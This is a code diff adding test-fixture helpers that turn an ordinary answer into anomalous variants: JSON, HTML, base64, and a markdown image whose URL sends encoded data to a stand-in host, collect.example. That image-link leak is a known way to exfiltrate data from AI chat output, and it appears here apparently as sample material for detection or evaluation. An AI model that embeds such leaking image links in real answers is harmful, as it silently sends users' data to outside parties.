@@ -2,6 +2,7 @@
 
 import base64
 import json
+from collections.abc import Callable, Mapping
 
 import numpy as np
 
@@ -59,6 +60,23 @@ _POEM = (
     "Preheat the oven to 180 degrees, whisk the eggs with the sugar until pale, fold in the flour "
     "and bake the sponge for half an hour.",
 )
+
+
+def _with_leak(answer: str, rng: np.random.Generator) -> str:
+    """Return an answer with an image whose address carries data away."""
+    data = base64.urlsafe_b64encode(rng.bytes(40)).decode()
+    return f"{answer} ![logo](https://collect.example/pixel?d={data})"
+
+
+ON_TOPIC: Mapping[str, Callable[[str, np.random.Generator], str]] = {
+    "the answer as JSON": lambda answer, _: json.dumps({"answer": answer}),
+    "the answer as HTML": lambda answer, _: (
+        f'<html><body><div class="answer"><p>{answer}</p></div></body></html>'
+    ),
+    "the answer with a leaking image": _with_leak,
+    "the answer as base64": lambda answer, _: base64.b64encode(answer.encode()).decode(),
+}
+"""What turns an ordinary answer into an anomalous one that says the same."""
 
 
 def planted(seed: int = 0) -> dict[str, tuple[str, ...]]:
